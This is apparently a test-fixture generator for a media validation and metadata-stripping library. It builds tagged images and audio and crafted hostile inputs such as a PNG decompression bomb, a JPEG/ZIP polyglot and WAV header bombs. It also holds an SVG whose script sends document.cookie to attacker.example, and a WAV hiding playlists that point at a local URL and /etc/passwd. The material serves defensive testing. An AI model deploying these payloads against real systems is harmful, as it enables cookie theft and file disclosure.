/**
 * Generates every media fixture the validate/strip and preprocess tests use, so a reader can see how each
 * was made: sharp and ffmpeg create the media, ExifTool and ffmpeg add the metadata, and hostile inputs
 * (bombs, truncations, polyglots) are crafted byte by byte. Tests call these functions in `beforeAll`;
 * `npx tsx scripts/make-fixtures.ts [DIR]` writes them all (default test/fixtures/generated, git-ignored).
 *
 * Needs nothing beyond `npm ci`: ExifTool from `exiftool-vendored.pl` on the system perl, ffmpeg from
 * `@ffmpeg-installer/ffmpeg` (or MEDIAGATE_FIXTURE_FFMPEG), and speech from the clips committed in
 * test/fixtures/speech (made by make-speech.ts).
 */
import { execFileSync } from 'node:child_process';
import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { crc32, deflateSync } from 'node:zlib';
import type { Sharp } from 'sharp';
import sharp from 'sharp';
import { NPM_FFMPEG, runExiftool, UNTAGGED_OUTPUT_ARGS } from './fixture-tools.js';
import { type SpeechClip, speechClipPath } from './make-speech.js';

export const GENERATED_DIR = resolve(import.meta.dirname, '..', 'test', 'fixtures', 'generated');

function fixtureFfmpeg(): string {
  return process.env.MEDIAGATE_FIXTURE_FFMPEG ?? NPM_FFMPEG;
}

function run(command: string, args: string[]): Buffer {
  return execFileSync(command, args, { stdio: ['ignore', 'pipe', 'pipe'], maxBuffer: 256 * 1024 * 1024 });
}

function ffmpeg(args: string[]): void {
  run(fixtureFfmpeg(), ['-nostdin', '-hide_banner', '-v', 'error', '-y', ...args]);
}

/** exiftool edits a file in place; fixtures go through a scratch file. */
function withExiftool(input: Buffer, ext: string, args: string[], dir = scratchDir()): Buffer {
  const path = join(dir, `exif-${process.pid}-${Math.random().toString(36).slice(2)}.${ext}`);
  writeFileSync(path, input);
  try {
    runExiftool(['-q', '-q', '-overwrite_original', ...args, path]);
    return readFileSync(path);
  } finally {
    rmSync(path, { force: true });
  }
}

function scratchDir(): string {
  const dir = join(GENERATED_DIR, 'scratch');
  mkdirSync(dir, { recursive: true });
  return dir;
}

function scratchPath(name: string): string {
  return join(scratchDir(), `${process.pid}-${Math.random().toString(36).slice(2)}-${name}`);
}

/** Runs ffmpeg with `args` writing to a scratch file of type `ext`, and returns that file's bytes. */
function ffmpegOutput(ext: string, args: readonly string[]): Buffer {
  const path = scratchPath(`out.${ext}`);
  try {
    ffmpeg([...args, path]);
    return readFileSync(path);
  } finally {
    rmSync(path, { force: true });
  }
}

/** The identifying tags a phone or camera writes; every one of them must be gone after stripping. */
export const CAMERA_TAGS = [
  '-GPSLatitude=51.5007',
  '-GPSLatitudeRef=N',
  '-GPSLongitude=0.1246',
  '-GPSLongitudeRef=W',
  '-GPSAltitude=12',
  '-Make=ExampleCam',
  '-Model=X100 Example',
  '-SerialNumber=SN-4471-0099',
  '-LensSerialNumber=LS-2231',
  '-OwnerName=Jane Example',
  '-Artist=Jane Example',
  '-Copyright=Jane Example',
  '-DateTimeOriginal=2024:05:01 10:11:12',
];

// ---------------------------------------------------------------- images

/** A photo-like scene (sky, sun, hills) drawn as SVG by us, rendered by sharp: trusted input. */
export async function photoLikeImage(width: number, height: number): Promise<Sharp> {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}">
  <defs>
    <linearGradient id="sky" x1="0" y1="0" x2="0" y2="1">
      <stop offset="0" stop-color="#2b5fa8"/><stop offset="1" stop-color="#bcd8f0"/>
    </linearGradient>
    <linearGradient id="hill" x1="0" y1="0" x2="0" y2="1">
      <stop offset="0" stop-color="#4f8a3a"/><stop offset="1" stop-color="#1f3d17"/>
    </linearGradient>
  </defs>
  <rect width="100%" height="100%" fill="url(#sky)"/>
  <circle cx="${width * 0.75}" cy="${height * 0.25}" r="${height * 0.09}" fill="#ffe9a8"/>
  <path d="M0 ${height * 0.7} Q ${width * 0.25} ${height * 0.45} ${width * 0.5} ${height * 0.65} T ${width} ${height * 0.6} V ${height} H 0 Z" fill="url(#hill)"/>
  <rect x="${width * 0.2}" y="${height * 0.55}" width="${width * 0.08}" height="${height * 0.12}" fill="#8b4a2b"/>
  <path d="M${width * 0.19} ${height * 0.55} L ${width * 0.24} ${height * 0.48} L ${width * 0.29} ${height * 0.55} Z" fill="#6b2b1b"/>
</svg>`;
  // librsvg renders RGBA; a photo has no alpha channel.
  return sharp(Buffer.from(svg)).resize(width, height).removeAlpha();
}

/**
 * JPEG with everything a phone leaves behind: GPS, camera serials, owner, dates, XMP, IPTC, a comment,
 * an EXIF thumbnail, orientation 6 (stored sideways) and a Display P3 ICC profile to be converted.
 */
export async function jpegWithEverything(width = 640, height = 480): Promise<Buffer> {
  const base = await (await photoLikeImage(width, height))
    .jpeg({ quality: 85 })
    .withIccProfile('p3')
    .toBuffer();
  const thumbPath = scratchPath('thumb.jpg');
  writeFileSync(thumbPath, await sharp(base).resize(160, 120).jpeg().toBuffer());
  try {
    return withExiftool(base, 'jpg', [
      ...CAMERA_TAGS,
      '-Orientation#=6',
      '-XMP-dc:Creator=Jane Example',
      '-XMP-photoshop:City=London',
      '-IPTC:By-line=Jane Example',
      '-IPTC:City=London',
      '-Comment=Taken at 10 Example Street',
      `-ThumbnailImage<=${thumbPath}`,
    ]);
  } finally {
    rmSync(thumbPath, { force: true });
  }
}

/** PNG with text chunks (tEXt/iTXt), an eXIf chunk with GPS, XMP and a tIME chunk. */
export async function pngWithText(): Promise<Buffer> {
  const base = await (await photoLikeImage(320, 240)).png().toBuffer();
  return withExiftool(base, 'png', [
    '-PNG:Author=Jane Example',
    '-PNG:Comment=Home address: 10 Example Street',
    '-PNG:CreationTime=2024:05:01 10:11:12',
    '-GPSLatitude=51.5',
    '-GPSLatitudeRef=N',
    '-XMP-dc:Creator=Jane Example',
  ]);
}

/** PNG with a transparent cut-out: Preprocess must keep it PNG. */
export async function pngWithAlpha(): Promise<Buffer> {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="300" height="200"><circle cx="150" cy="100" r="80" fill="#d33"/></svg>`;
  return sharp(Buffer.from(svg)).png().toBuffer();
}

export async function webpWithMetadata(): Promise<Buffer> {
  const base = await (await photoLikeImage(320, 240)).webp({ quality: 80 }).toBuffer();
  return withExiftool(base, 'webp', [...CAMERA_TAGS, '-XMP-dc:Creator=Jane Example']);
}

/** A 3-frame animated GIF with a comment extension; only the first frame may come out. */
export function animatedGif(frames = 3): Buffer {
  const gif = ffmpegOutput('gif', ['-f', 'lavfi', '-i', `testsrc=size=96x64:rate=${frames}`, '-t', '1']);
  return withExiftool(gif, 'gif', ['-Comment=Jane Example was here']);
}

export async function tiffWithGps(): Promise<Buffer> {
  const base = await (await photoLikeImage(320, 240)).tiff({ compression: 'lzw' }).toBuffer();
  return withExiftool(base, 'tif', [...CAMERA_TAGS, '-XMP-dc:Creator=Jane Example']);
}

export async function avifWithMetadata(): Promise<Buffer> {
  const base = await (await photoLikeImage(320, 240)).avif({ quality: 50, effort: 0 }).toBuffer();
  return withExiftool(base, 'avif', [...CAMERA_TAGS, '-XMP-dc:Creator=Jane Example']);
}

function box(type: string, body: Buffer): Buffer {
  const header = Buffer.alloc(8);
  header.writeUInt32BE(8 + body.length, 0);
  header.write(type, 4, 'latin1');
  return Buffer.concat([header, body]);
}

/** The start of an iPhone HEIC (ftyp brand heic, a meta box): enough for every sniffer to call it HEIC. */
export function heicHeader(): Buffer {
  const ftyp = box(
    'ftyp',
    Buffer.concat([Buffer.from('heic', 'latin1'), Buffer.alloc(4), Buffer.from('mif1heic', 'latin1')]),
  );
  const hdlr = box('hdlr', Buffer.concat([Buffer.alloc(8), Buffer.from('pict', 'latin1'), Buffer.alloc(13)]));
  const meta = box('meta', Buffer.concat([Buffer.alloc(4), hdlr]));
  return Buffer.concat([ftyp, meta, box('mdat', Buffer.alloc(256, 0x5a))]);
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const typeAndData = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typeAndData));
  return Buffer.concat([length, typeAndData, crc]);
}

/**
 * A decompression bomb: ~1 KB of valid PNG whose IHDR claims 17000×17000 RGB (867 MB of pixels). The
 * IDAT holds only the first rows; a decoder that trusts the header allocates first and fails late.
 */
export function pngBomb(side = 17_000): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(side, 0);
  ihdr.writeUInt32BE(side, 4);
  ihdr.writeUInt8(8, 8); // bit depth
  ihdr.writeUInt8(2, 9); // RGB
  const rows = deflateSync(Buffer.alloc((side * 3 + 1) * 8), { level: 9 });
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', rows),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A real JPEG whose SOF is rewritten to claim 60000×60000: refused from the header. */
export async function jpegClaimingHugeSize(): Promise<Buffer> {
  const jpeg = await sharp({ create: { width: 16, height: 16, channels: 3, background: '#777' } })
    .jpeg()
    .toBuffer();
  const out = Buffer.from(jpeg);
  for (let at = 2; at + 9 < out.length; ) {
    const marker = out[at + 1] ?? 0;
    if (marker === 0xc0 || marker === 0xc2) {
      out.writeUInt16BE(60_000, at + 5);
      out.writeUInt16BE(60_000, at + 7);
      break;
    }
    at += 2 + out.readUInt16BE(at + 2);
  }
  return out;
}

/** A JPEG cut off part-way through its scan data. */
export async function truncatedJpeg(): Promise<Buffer> {
  const full = await (await photoLikeImage(320, 240)).jpeg().toBuffer();
  return full.subarray(0, Math.floor(full.length * 0.6));
}

export async function plainPng(width = 320, height = 240): Promise<Buffer> {
  return (await photoLikeImage(width, height)).png().toBuffer();
}

export async function plainJpeg(width = 320, height = 240): Promise<Buffer> {
  return (await photoLikeImage(width, height)).jpeg().toBuffer();
}

/**
 * An animation (GIF) or a multi-page document (TIFF) with more frames/pages than `DEFAULT_MEDIA_LIMITS`
 * allows (1 000): tiny 16×16 pages, so the file is small and only the count is hostile. sharp writes
 * each page of a tall image when told its page height.
 */
export async function manyPages(format: 'gif' | 'tiff', pages = 1_001): Promise<Buffer> {
  const tall = sharp({
    create: { width: 16, height: 16 * pages, channels: 3, background: '#3a6', pageHeight: 16 },
  });
  return format === 'gif'
    ? tall.gif({ keepDuplicateFrames: true }).toBuffer()
    : tall.tiff({ compression: 'lzw' }).toBuffer();
}

type IfdEntry = { tag: number; type: 'ascii' | 'long' | 'undefined'; value: string | number | Buffer };

const IFD_TYPE = { ascii: 2, long: 4, undefined: 7 } as const;

function ifdValue(entry: IfdEntry): Buffer {
  if (entry.type === 'long') {
    const long = Buffer.alloc(4);
    long.writeUInt32LE(entry.value as number);
    return long;
  }
  return typeof entry.value === 'string'
    ? Buffer.from(`${entry.value}\0`, 'latin1')
    : (entry.value as Buffer);
}

/** Bytes an IFD takes with its out-of-line values (each padded to an even length). */
function ifdLength(entries: readonly IfdEntry[]): number {
  const data = entries
    .map((entry) => ifdValue(entry).length)
    .filter((length) => length > 4)
    .reduce((sum, length) => sum + length + (length % 2), 0);
  return 2 + 12 * entries.length + 4 + data;
}

/** A little-endian TIFF IFD placed at offset `at` of its TIFF header, values > 4 bytes right after it. */
function tiffIfd(entries: readonly IfdEntry[], at: number): Buffer {
  const sorted = [...entries].sort((a, b) => a.tag - b.tag);
  const head = Buffer.alloc(2 + 12 * sorted.length + 4);
  head.writeUInt16LE(sorted.length, 0);
  const data: Buffer[] = [];
  let dataAt = at + head.length;
  for (const [index, entry] of sorted.entries()) {
    const value = ifdValue(entry);
    const offset = 2 + 12 * index;
    head.writeUInt16LE(entry.tag, offset);
    head.writeUInt16LE(IFD_TYPE[entry.type], offset + 2);
    head.writeUInt32LE(entry.type === 'long' ? 1 : value.length, offset + 4);
    if (value.length <= 4) {
      value.copy(head, offset + 8);
    } else {
      head.writeUInt32LE(dataAt, offset + 8);
      const padded = value.length % 2 ? Buffer.concat([value, Buffer.alloc(1)]) : value;
      data.push(padded);
      dataAt += padded.length;
    }
  }
  return Buffer.concat([head, ...data]);
}

/**
 * A JPEG whose EXIF carries Canon MakerNotes with the owner's name, the body serial number and the
 * firmware, crafted byte by byte: exiftool reads MakerNotes but cannot create them from nothing. Canon
 * makernotes are a bare IFD whose offsets count from the TIFF header, as every EXIF offset does.
 */
export async function jpegWithMakerNotes(): Promise<Buffer> {
  const ifd0: IfdEntry[] = [
    { tag: 0x010f, type: 'ascii', value: 'Canon' },
    { tag: 0x0110, type: 'ascii', value: 'Canon EOS Example' },
    { tag: 0x8769, type: 'long', value: 0 },
  ];
  const exifAt = 8 + ifdLength(ifd0);
  (ifd0[2] as IfdEntry).value = exifAt;
  // The Exif IFD holds one entry, so the MakerNote bytes start right after its 18-byte directory.
  const makerNote = tiffIfd(
    [
      { tag: 0x0006, type: 'ascii', value: 'Canon EOS Example JPEG' },
      { tag: 0x0007, type: 'ascii', value: 'Firmware Version 1.2.3' },
      { tag: 0x0009, type: 'ascii', value: 'Jane Example' },
      { tag: 0x000c, type: 'long', value: 4471_0099 },
    ],
    exifAt + 18,
  );
  const exifIfd = tiffIfd([{ tag: 0x927c, type: 'undefined', value: makerNote }], exifAt);
  const tiff = Buffer.concat([
    Buffer.from('II*\0', 'latin1'),
    Buffer.from([8, 0, 0, 0]),
    tiffIfd(ifd0, 8),
    exifIfd,
  ]);
  const payload = Buffer.concat([Buffer.from('Exif\0\0', 'latin1'), tiff]);
  const app1 = Buffer.alloc(4);
  app1.writeUInt16BE(0xffe1, 0);
  app1.writeUInt16BE(payload.length + 2, 2);
  const jpeg = await plainJpeg();
  // After SOI and the JFIF APP0 segment, where cameras put APP1.
  const afterApp0 = 4 + jpeg.readUInt16BE(4);
  return Buffer.concat([jpeg.subarray(0, afterApp0), app1, payload, jpeg.subarray(afterApp0)]);
}

/** A stored (uncompressed) ZIP with one file, built by hand. */
export function tinyZip(name = 'payload.txt', content = Buffer.from('not an image\n')): Buffer {
  const nameBytes = Buffer.from(name, 'latin1');
  const crc = crc32(content);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(10, 4);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(content.length, 18);
  local.writeUInt32LE(content.length, 22);
  local.writeUInt16LE(nameBytes.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(10, 6);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(content.length, 20);
  central.writeUInt32LE(content.length, 24);
  central.writeUInt16LE(nameBytes.length, 28);
  const localPart = Buffer.concat([local, nameBytes, content]);
  const centralPart = Buffer.concat([central, nameBytes]);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(centralPart.length, 12);
  end.writeUInt32LE(localPart.length, 16);
  return Buffer.concat([localPart, centralPart, end]);
}

/** A polyglot: a valid JPEG that is also a ZIP (the archive appended after the EOI marker). */
export async function jpegZipPolyglot(): Promise<Buffer> {
  return Buffer.concat([await plainJpeg(), tinyZip()]);
}

export function svgWithScript(): Buffer {
  return Buffer.from(
    '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">' +
      '<script>fetch("https://attacker.example/?c="+document.cookie)</script>' +
      '<rect width="100" height="100" fill="red"/></svg>\n',
  );
}

export function textFile(): Buffer {
  return Buffer.from('Claimant: Jane Example\nThis is a text file with a .jpg name.\n');
}

/** UTF-16LE text with a BOM: FF FE looks like an MPEG audio frame sync to naive sniffers. */
export function utf16Text(): Buffer {
  return Buffer.concat([
    Buffer.from([0xff, 0xfe]),
    Buffer.from('Hello, this is plain text in UTF-16.\r\n', 'utf16le'),
  ]);
}

export function minimalPdf(): Buffer {
  return Buffer.from(
    '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n' +
      'trailer<</Root 1 0 R>>\n%%EOF\n',
  );
}

// ---------------------------------------------------------------- audio

/**
 * A committed espeak-ng clip (see make-speech.ts) as the WAV espeak-ng wrote: 22.05 kHz mono PCM, here
 * decoded from the Opus it is stored in, with no tags of its own.
 */
export function speechWav(clip: SpeechClip = 'voice-note'): Buffer {
  return ffmpegOutput('wav', [
    '-i',
    speechClipPath(clip),
    '-ar',
    '22050',
    '-ac',
    '1',
    '-c:a',
    'pcm_s16le',
    ...UNTAGGED_OUTPUT_ARGS,
  ]);
}

function transcode(input: Buffer, inExt: string, outExt: string, args: string[]): Buffer {
  const src = scratchPath(`in.${inExt}`);
  const dst = scratchPath(`out.${outExt}`);
  writeFileSync(src, input);
  try {
    ffmpeg(['-i', src, ...args, dst]);
    return readFileSync(dst);
  } finally {
    rmSync(src, { force: true });
    rmSync(dst, { force: true });
  }
}

const SPEECH_TAGS = [
  '-metadata',
  'title=Voice note about Jane Example',
  '-metadata',
  'artist=Jane Example',
  '-metadata',
  'comment=Recorded at 10 Example Street',
];

/** A RIFF chunk (id, little-endian size, body, pad byte). */
function riffChunk(id: string, body: Buffer): Buffer {
  const header = Buffer.alloc(8);
  header.write(id, 0, 'latin1');
  header.writeUInt32LE(body.length, 4);
  return Buffer.concat([header, body, body.length % 2 ? Buffer.alloc(1) : Buffer.alloc(0)]);
}

/**
 * WAV with RIFF INFO (INAM/IART/ICMT), a bext chunk naming the originator (both by ffmpeg) and an iXML
 * chunk with a project and a note, as field recorders write (appended by hand: ffmpeg cannot write iXML).
 */
export function wavWithInfo(): Buffer {
  const tagged = transcode(speechWav(), 'wav', 'wav', [
    ...SPEECH_TAGS,
    '-write_bext',
    '1',
    '-metadata',
    'originator=Jane Example Recorder',
    '-metadata',
    'description=Jane Example calling',
  ]);
  const ixml = riffChunk(
    'iXML',
    Buffer.from(
      '<?xml version="1.0"?><BWFXML><PROJECT>Jane Example claim</PROJECT><NOTE>10 Example Street</NOTE></BWFXML>',
    ),
  );
  const wav = Buffer.concat([tagged, ixml]);
  wav.writeUInt32LE(wav.length - 8, 4);
  return wav;
}

/** MP3 with ID3v2 + ID3v1 tags, two chapters and front-cover art. */
export async function mp3WithEverything(): Promise<Buffer> {
  const speech = scratchPath('speech.wav');
  const cover = scratchPath('cover.jpg');
  const chapters = scratchPath('chapters.txt');
  const out = scratchPath('out.mp3');
  writeFileSync(speech, speechWav());
  writeFileSync(cover, await plainJpeg(120, 120));
  writeFileSync(
    chapters,
    ';FFMETADATA1\n[CHAPTER]\nTIMEBASE=1/1000\nSTART=0\nEND=1000\ntitle=Jane intro\n' +
      '[CHAPTER]\nTIMEBASE=1/1000\nSTART=1000\nEND=2000\ntitle=Jane address\n',
  );
  try {
    ffmpeg([
      '-i',
      speech,
      '-i',
      cover,
      '-i',
      chapters,
      '-map',
      '0:a',
      '-map',
      '1:v',
      '-map_chapters',
      '2',
      '-c:a',
      'libmp3lame',
      '-b:a',
      '64k',
      '-c:v',
      'copy',
      '-disposition:v',
      'attached_pic',
      '-metadata:s:v',
      'comment=Cover (front)',
      '-id3v2_version',
      '3',
      '-write_id3v1',
      '1',
      ...SPEECH_TAGS,
      out,
    ]);
    return readFileSync(out);
  } finally {
    for (const path of [speech, cover, chapters, out]) rmSync(path, { force: true });
  }
}

/** M4A with iTunes tags and a location (©xyz) atom, as iPhone voice memos carry. */
export function m4aWithLocation(): Buffer {
  return transcode(speechWav(), 'wav', 'm4a', [
    '-c:a',
    'aac',
    '-b:a',
    '48k',
    ...SPEECH_TAGS,
    '-metadata',
    'location=+51.5007-000.1246/',
    '-metadata',
    'location-eng=+51.5007-000.1246/',
    '-movflags',
    '+use_metadata_tags',
  ]);
}

export function flacWithComments(): Buffer {
  return transcode(speechWav(), 'wav', 'flac', [...SPEECH_TAGS]);
}

export function oggVorbisWithComments(): Buffer {
  return transcode(speechWav(), 'wav', 'ogg', ['-c:a', 'libvorbis', ...SPEECH_TAGS]);
}

export function opusWithTags(): Buffer {
  return transcode(speechWav(), 'wav', 'opus', ['-c:a', 'libopus', '-b:a', '24k', ...SPEECH_TAGS]);
}

export function webmAudioWithTags(): Buffer {
  return transcode(speechWav(), 'wav', 'webm', ['-c:a', 'libopus', '-b:a', '24k', ...SPEECH_TAGS]);
}

export function adtsAac(): Buffer {
  return transcode(speechWav(), 'wav', 'aac', ['-c:a', 'aac', '-b:a', '48k']);
}

/** A sine tone of the given length and channel count (for duration and channel limits). */
export function toneWav(seconds: number, channels = 1): Buffer {
  return ffmpegOutput('wav', [
    '-f',
    'lavfi',
    '-i',
    `sine=frequency=440:duration=${seconds}`,
    '-ac',
    String(channels),
    '-ar',
    '16000',
  ]);
}

/** A PCM WAV built field by field, so its header can say what a recorder never would. */
function craftedWav(fields: { channels: number; sampleRate: number; dataBytes: number }): Buffer {
  const bits = 16;
  const blockAlign = (fields.channels * bits) / 8;
  const fmt = Buffer.alloc(16);
  fmt.writeUInt16LE(1, 0); // PCM
  fmt.writeUInt16LE(fields.channels, 2);
  fmt.writeUInt32LE(fields.sampleRate, 4);
  fmt.writeUInt32LE(fields.sampleRate * blockAlign, 8);
  fmt.writeUInt16LE(blockAlign, 12);
  fmt.writeUInt16LE(bits, 14);
  const body = Buffer.concat([
    Buffer.from('WAVE', 'latin1'),
    riffChunk('fmt ', fmt),
    riffChunk('data', Buffer.alloc(fields.dataBytes)),
  ]);
  const header = Buffer.alloc(8);
  header.write('RIFF', 0, 'latin1');
  header.writeUInt32LE(body.length, 4);
  return Buffer.concat([header, body]);
}

/** Audio header bombs: 100 KB claiming 64 channels, and 16 KB whose 1 Hz sample rate makes it 2 h 13 min long. */
export function wavClaiming64Channels(): Buffer {
  return craftedWav({ channels: 64, sampleRate: 8000, dataBytes: 64 * 2 * 800 });
}

export function wavClaimingHugeDuration(): Buffer {
  return craftedWav({ channels: 1, sampleRate: 1, dataBytes: 16_000 });
}

/** An ffconcat list and an HLS playlist, the two ways an ffmpeg input can name other inputs. */
export function concatPlaylist(urls: readonly string[]): Buffer {
  return Buffer.from(`ffconcat version 1.0\n${urls.map((url) => `file '${url}'\n`).join('')}`);
}

export function hlsPlaylist(urls: readonly string[]): Buffer {
  const segments = urls.map((url) => `#EXTINF:1.0,\n${url}\n`).join('');
  return Buffer.from(`#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:1\n${segments}#EXT-X-ENDLIST\n`);
}

/** A real WAV that carries both playlists: one in a JUNK chunk, one appended after the last chunk. */
export function wavCarryingPlaylists(urls: readonly string[]): Buffer {
  const riff = Buffer.concat([toneWav(1), riffChunk('JUNK', hlsPlaylist(urls))]);
  riff.writeUInt32LE(riff.length - 8, 4);
  return Buffer.concat([riff, concatPlaylist(urls)]);
}

/** An MP4 with a real video track: not a voice note. */
export function videoMp4(): Buffer {
  return ffmpegOutput('mp4', [
    '-f',
    'lavfi',
    '-i',
    'testsrc=size=64x48:rate=5',
    '-f',
    'lavfi',
    '-i',
    'sine=duration=1',
    '-t',
    '1',
    '-c:v',
    'mpeg4',
    '-c:a',
    'aac',
    '-shortest',
  ]);
}

/** A FLAC whose frames after the first kilobyte are overwritten with noise. */
export function corruptFlac(): Buffer {
  const flac = Buffer.from(flacWithComments());
  let seed = 12345;
  for (let i = 4096; i < flac.length; i++) {
    seed = (seed * 1103515245 + 12345) >>> 0;
    flac[i] = seed >>> 24;
  }
  return flac;
}

// ---------------------------------------------------------------- all at once

export const ALL_FIXTURES: Readonly<Record<string, () => Buffer | Promise<Buffer>>> = {
  'jpeg-with-everything.jpg': () => jpegWithEverything(),
  'png-with-text.png': pngWithText,
  'png-with-alpha.png': pngWithAlpha,
  'webp-with-metadata.webp': webpWithMetadata,
  'animated.gif': () => animatedGif(),
  'tiff-with-gps.tif': tiffWithGps,
  'avif-with-metadata.avif': avifWithMetadata,
  'iphone.heic': heicHeader,
  'bomb-17000.png': () => pngBomb(),
  'huge-sof.jpg': jpegClaimingHugeSize,
  'truncated.jpg': truncatedJpeg,
  'renamed-png.jpg': () => plainPng(),
  'polyglot.jpg': jpegZipPolyglot,
  'svg-with-script.jpg': svgWithScript,
  'text-named.jpg': textFile,
  'utf16.txt': utf16Text,
  'document.pdf': minimalPdf,
  'empty.jpg': () => Buffer.alloc(0),
  'wav-with-info.wav': wavWithInfo,
  'mp3-with-everything.mp3': mp3WithEverything,
  'm4a-with-location.m4a': m4aWithLocation,
  'flac-with-comments.flac': flacWithComments,
  'ogg-with-comments.ogg': oggVorbisWithComments,
  'opus-with-tags.opus': opusWithTags,
  'webm-audio.webm': webmAudioWithTags,
  'adts.aac': adtsAac,
  'video.mp4': videoMp4,
  'corrupt.flac': corruptFlac,
  'frames-1001.gif': () => manyPages('gif'),
  'pages-1001.tif': () => manyPages('tiff'),
  'makernotes.jpg': jpegWithMakerNotes,
  'wav-64-channels.wav': wavClaiming64Channels,
  'wav-1hz-2h.wav': wavClaimingHugeDuration,
  'playlists-in.wav': () => wavCarryingPlaylists(['http://127.0.0.1:9/seg.wav', '/etc/passwd']),
};

export async function writeAllFixtures(dir = GENERATED_DIR): Promise<string[]> {
  return writeFixtureSet(ALL_FIXTURES, dir);
}

/** Writes each fixture of `set` into `dir` under its name. */
export async function writeFixtureSet(
  set: Readonly<Record<string, () => Buffer | Promise<Buffer>>>,
  dir: string,
): Promise<string[]> {
  mkdirSync(dir, { recursive: true });
  const written: string[] = [];
  for (const [name, make] of Object.entries(set)) {
    const path = join(dir, name);
    writeFileSync(path, await make());
    written.push(path);
  }
  return written;
}

if (import.meta.filename === resolve(process.argv[1] ?? '')) {
  const written = await writeAllFixtures(process.argv[2] ? resolve(process.argv[2]) : GENERATED_DIR);
  process.stdout.write(`${written.length} fixtures written\n`);
}
